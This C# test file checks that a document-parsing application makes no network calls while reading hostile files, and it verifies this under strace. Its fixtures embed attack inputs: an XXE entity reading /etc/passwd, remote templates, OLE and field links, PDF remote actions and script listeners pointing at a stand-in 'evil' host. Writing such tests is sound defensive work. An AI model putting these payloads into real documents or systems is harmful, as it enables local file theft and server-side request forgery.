using System.Diagnostics;
using System.Text;
using ReportHarvester.App;
using ReportHarvester.Tests.Reports;
using ReportHarvester.Tests.Reports.Word;
using ReportHarvester.Tests.Store;

namespace ReportHarvester.Tests.App.Hostile;

/// <summary>Documents name what lies elsewhere: templates, parts, pictures, other files. Reading them, and converting them, asks nobody for it.</summary>
public sealed class NetworkTests : IDisposable
{
    const string Elsewhere = "http://192.0.2.1/evil";

    readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("elsewhere");

    public void Dispose() => folder.Delete(recursive: true);

    static readonly Dictionary<string, byte[]> Documents = new()
    {
        ["template.docx"] = RawDocx.Of(RawDocx.Paragraph("x") + "<w:altChunk xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships' r:id='x1'/>",
            relations: string.Concat(new[] { "attachedTemplate", "aFChunk", "image", "oleObject", "frame", "subDocument" }.Select((kind, i) =>
                $"<Relationship Id=\"x{i}\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{Elsewhere}\" TargetMode=\"External\"/>"))),
        ["page.html"] = Encoding.UTF8.GetBytes($"<!DOCTYPE html SYSTEM '{Elsewhere}'><base href='{Elsewhere}/'><link rel=stylesheet href=a.css><style>@import '{Elsewhere}'</style><script src=a.js></script><img src=a.png><iframe src=a></iframe><object data=a></object>年报"),
        ["remote.pdf"] = RawPdf.File([$"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToR/F<</FS/URL/F({Elsewhere})>>/D[0/Fit]>>>>", RawPdf.Pages,
            "<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>", RawPdf.Stream("/X Do"), $"<</Length 0/F<</FS/URL/F({Elsewhere})>>>>\nstream\n\nendstream"]),
        ["entity.xlsx"] = RawDocx.Zip([("xl/workbook.xml", $"<!DOCTYPE a SYSTEM '{Elsewhere}'><workbook/>"), ("_rels/.rels", $"<Relationships><Relationship Id='r' Type='t/officeDocument' Target='{Elsewhere}' TargetMode='External'/></Relationships>")]),
        ["links.rtf"] = Encoding.Latin1.GetBytes($@"{{\rtf1{{\*\template {Elsewhere}}}{{\field{{\*\fldinst INCLUDEPICTURE ""{Elsewhere}.png"" \\d}}}}{{\field{{\*\fldinst INCLUDETEXT ""{Elsewhere}.rtf""}}}}{{\object\objautlink\objupdate{{\*\objdata 01050000}}}}x}}"),
        ["links.fodt"] = Encoding.UTF8.GetBytes($"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:text='urn:oasis:names:tc:opendocument:xmlns:text:1.0' xmlns:draw='urn:oasis:names:tc:opendocument:xmlns:drawing:1.0' xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:script='urn:oasis:names:tc:opendocument:xmlns:script:1.0' office:version='1.2' office:mimetype='application/vnd.oasis.opendocument.text'>"
            + $"<office:scripts><office:event-listeners><script:event-listener script:language='ooo:script' script:event-name='dom:load' xlink:href='vnd.sun.star.script:a?language=Python&amp;location=user'/></office:event-listeners></office:scripts>"
            + $"<office:body><office:text><text:section text:name='a'><text:section-source xlink:href='{Elsewhere}.odt'/></text:section><text:p><draw:frame><draw:image xlink:href='{Elsewhere}.png' xlink:actuate='onLoad'/></draw:frame>一、&e;</text:p></office:text></office:body></office:document>"),
    };

    [StraceTheory]
    [InlineData("template.docx", "page.html", "remote.pdf", "entity.xlsx")]
    [InlineData("links.rtf", "links.fodt")]
    public async Task D04_nobody_is_asked_for_what_a_document_names(params string[] names)
    {
        foreach (var name in names) await File.WriteAllBytesAsync(Path.Combine(folder.FullName, name), Documents[name]);
        var trace = Path.Combine(folder.FullName, "trace");
        var command = $"strace -f -qq -e trace=connect -o {trace} dotnet {typeof(ReadingProcess).Assembly.Location} parse --format jsonl {string.Join(' ', names)}";
        using var process = Process.Start(new ProcessStartInfo("/bin/sh", ["-c", command]) { RedirectStandardOutput = true, WorkingDirectory = folder.FullName })!;
        var said = await process.StandardOutput.ReadToEndAsync();
        await process.WaitForExitAsync();
        Assert.Equal(names.Length, said.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
        Assert.DoesNotContain("root:", said);
        // The office program may try the port where nobody answers.
        Assert.All((await File.ReadAllLinesAsync(trace)).Where(line => line.Contains("AF_INET")), line => Assert.Contains("htons(9), sin_addr=inet_addr(\"127.0.0.1\")", line));
    }
}
